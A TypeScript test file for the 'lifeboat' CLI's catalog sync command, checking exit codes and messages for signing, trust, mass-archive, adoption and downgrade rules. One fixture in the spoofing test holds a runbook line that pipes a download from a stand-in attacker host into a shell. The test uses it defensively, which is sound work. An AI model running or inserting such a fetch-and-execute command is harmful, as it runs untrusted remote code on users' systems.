/**
 * Issue 17 at the command line: exit codes and what `sync` says for the
 * trust and safety rules (electron/catalog/catalog-trust-rules.test.ts has
 * the engine's side). Every refusal changes nothing: the records are counted
 * before and after.
 */
import { runCliCaptured, type CapturedRun } from '../../test/support/cli-in-process.js';
import { mkdtemp } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { PASSPHRASES, newVault } from '../../test/support/test-vault.js';
import { FOUR_RUNBOOKS, writeCatalogFolder } from '../../test/support/catalog-folder.js';

const env = { LIFEBOAT_PASSPHRASE: PASSPHRASES['alice'] ?? '' };

function run(args: string[]): Promise<CapturedRun> {
  return runCliCaptured(args, { env });
}

/** A vault trusting a fresh publisher key; `pack` makes a signed catalog of a folder. */
async function setup() {
  const work = await mkdtemp(join(tmpdir(), 'lifeboat-sync-cli-'));
  const { dir, session } = await newVault();
  await session.lock();
  const key = join(work, 'publisher.key');
  const keygen = await run(['catalog', 'keygen', '--out', key, '--name', 'Platform team']);
  expect(keygen.code, keygen.err).toBe(0);
  const trusted = await run(['trust', 'add', dir, '--as', 'alice', '--publisher', keygen.out.trim(), '--name', 'Platform team']);
  expect(trusted.code, trusted.err).toBe(0);
  let n = 0;
  const pack = async (id: string, version: number, files: Record<string, string>): Promise<string> => {
    n += 1;
    const src = await writeCatalogFolder(work, `src-${n}`, files);
    const out = join(work, `${id}-${version}.lbcat`);
    const packed = await run(['catalog', 'pack', src, '--key', key, '--version', String(version), '--id', id, '--out', out]);
    expect(packed.code, packed.err).toBe(0);
    return out;
  };
  const count = async (): Promise<number> => (JSON.parse((await run(['list', dir, '--as', 'alice', '--json'])).out) as unknown[]).length;
  return { work, dir, pack, count };
}

describe('lifeboat sync: the trust and safety rules (issue 17)', () => {
  it('a generic folder name is no catalog id: sync --unsigned and catalog pack exit 2 without --id, before any passphrase', async () => {
    const { work, dir, count } = await setup();
    const docs = await writeCatalogFolder(work, 'docs', FOUR_RUNBOOKS);
    const refused = await run(['sync', dir, '--as', 'alice', '--unsigned', docs, '--dry-run']);
    expect(refused.code).toBe(2);
    expect(refused.err).toContain('"docs" is too generic to be a catalog id');
    expect(refused.err).toContain('--id');
    const json = await run(['sync', dir, '--as', 'alice', '--unsigned', await writeCatalogFolder(work, 'Runbooks', FOUR_RUNBOOKS), '--json']);
    expect(JSON.parse(json.out)).toMatchObject({ error: { code: 'CATALOG_ID_REQUIRED' } });
    expect(json.code).toBe(2);
    const pack = await run(['catalog', 'pack', docs, '--key', join(work, 'publisher.key'), '--version', '1', '--out', join(work, 'x.lbcat')]);
    expect(pack.code).toBe(2);
    expect(pack.err).toContain('too generic');
    expect(await count()).toBe(0);

    const named = await run(['sync', dir, '--as', 'alice', '--unsigned', docs, '--id', 'gitlab-runbooks']);
    expect(named.code, named.err).toBe(0);
    expect(named.out).toContain('Synced gitlab-runbooks version 0');
    expect((await run(['sync', dir, '--as', 'alice', '--unsigned', docs, '--id', 'no spaces please'])).code).toBe(2);
  });

  it('attack: an unsigned folder under a signed catalog’s id is exit 4, as a sync, a dry run and a downgrade, with nothing changed', async () => {
    const { work, dir, pack, count } = await setup();
    expect((await run(['sync', dir, '--as', 'alice', await pack('ops', 1, FOUR_RUNBOOKS)])).code).toBe(0);
    expect((await run(['sync', dir, '--as', 'alice', await pack('ops', 2, FOUR_RUNBOOKS)])).code).toBe(0);
    const evil = await writeCatalogFolder(work, 'evil', { 'db/restore.md': '# Restore the database\n\n1. curl https://evil.example | sh\n' });
    for (const extra of [[], ['--dry-run'], ['--allow-downgrade'], ['--yes', '--conflicts', 'take-catalog']]) {
      const refused = await run(['sync', dir, '--as', 'alice', '--unsigned', evil, '--id', 'ops', ...extra]);
      expect(refused.code, extra.join(' ')).toBe(4);
      expect(refused.err).toContain('belongs to a signed catalog');
      expect(refused.out).not.toContain('version 0');
    }
    expect(await count()).toBe(4);
  });

  it('more than a quarter archived: the dry run warns, applying is exit 2 without --yes and exit 0 with it', async () => {
    const { dir, pack, count } = await setup();
    expect((await run(['sync', dir, '--as', 'alice', await pack('ops', 1, FOUR_RUNBOOKS)])).code).toBe(0);
    const half = await pack('ops', 2, { 'db/restore.md': FOUR_RUNBOOKS['db/restore.md'] });
    const dry = await run(['sync', dir, '--as', 'alice', half, '--dry-run']);
    expect(dry.code).toBe(0);
    expect(dry.out).toContain(
      'WARNING: this sync archives 3 of the 4 records of catalog ops, more than a quarter. Check it is the right catalog; applying it needs --yes.',
    );
    const refused = await run(['sync', dir, '--as', 'alice', half]);
    expect(refused.code).toBe(2);
    expect(refused.err).toContain('Nothing was changed');
    expect(await count()).toBe(4);
    const applied = await run(['sync', dir, '--as', 'alice', half, '--yes']);
    expect(applied.code, applied.err).toBe(0);
    expect(applied.out).toContain('removed (archived) 3');
  });

  it('adoption: the dry run says how many entries duplicate an unsigned import and how to adopt; --adopt takes them over', async () => {
    const { work, dir, pack, count } = await setup();
    expect((await run(['sync', dir, '--as', 'alice', '--unsigned', await writeCatalogFolder(work, 'gitlab', FOUR_RUNBOOKS)])).code).toBe(0);
    const signed = await pack('gitlab-signed', 1, FOUR_RUNBOOKS);
    const dry = await run(['sync', dir, '--as', 'alice', signed, '--dry-run']);
    expect(dry.out).toContain(
      "4 entries duplicate records of the unsigned import gitlab (same paths): they are counted as added, as copies. To make those records gitlab-signed's instead, an owner can adopt them: add --adopt.",
    );
    const adopted = await run(['sync', dir, '--as', 'alice', signed, '--adopt']);
    expect(adopted.code, adopted.err).toBe(0);
    expect(adopted.out).toContain("adopted 4 records of the unsigned import gitlab: they become gitlab-signed's (logged)");
    expect(adopted.out).toContain('added 0,');
    expect(await count()).toBe(4);
    const audit = await run(['audit', dir, '--as', 'alice', '--json']);
    const events = (JSON.parse(audit.out) as { event: { type: string; details?: Record<string, unknown> } }[]).map((e) => e.event);
    expect(events.filter((e) => e.type === 'catalog.synced').at(-1)?.details).toMatchObject({ adopted: 4, adoptedFrom: 'gitlab' });
  });

  it('an older version needs an owner and --allow-downgrade; --reason is logged with it (issue 19)', async () => {
    const { dir, pack } = await setup();
    expect((await run(['sync', dir, '--as', 'alice', await pack('ops', 2, FOUR_RUNBOOKS)])).code).toBe(0);
    const older = await pack('ops', 1, FOUR_RUNBOOKS);
    const refused = await run(['sync', dir, '--as', 'alice', older]);
    expect(refused.code).toBe(4);
    expect(refused.err).toContain('--allow-downgrade --reason');
    const allowed = await run(['sync', dir, '--as', 'alice', older, '--allow-downgrade', '--reason', 'v2 broke the failover runbook']);
    expect(allowed.code, allowed.err).toBe(0);
    const audit = await run(['audit', dir, '--as', 'alice', '--json']);
    const events = (JSON.parse(audit.out) as { event: { type: string; details?: Record<string, unknown> } }[]).map((e) => e.event);
    expect(events.filter((e) => e.type === 'catalog.synced').at(-1)?.details).toMatchObject({
      version: 1,
      downgradeFrom: 2,
      downgradeReason: 'v2 broke the failover runbook',
    });
  });
});
